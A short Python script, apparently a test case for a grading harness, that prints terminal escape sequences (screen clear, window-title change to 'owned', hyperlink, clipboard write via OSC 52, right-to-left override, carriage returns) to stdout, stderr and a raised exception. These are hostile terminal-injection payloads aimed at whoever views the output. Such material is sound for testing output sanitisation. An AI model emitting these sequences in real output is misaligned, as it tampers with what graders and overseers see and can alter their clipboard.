"""
tries: to write on the terminal of whoever grades, and to move what it says
ends: ']52;c;eA=='
"""

import sys

for stream in (sys.stdout, sys.stderr):
    print("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]8;;http://x\x07\x9b31m\u202edooG\r[bold red]", file=stream)
raise type("\x1b[2J\x1b]0;owned\x07" * 100, (Exception,), {})("\x1b]52;c;eA==\x07[link=http://x]\r\n" * 100)
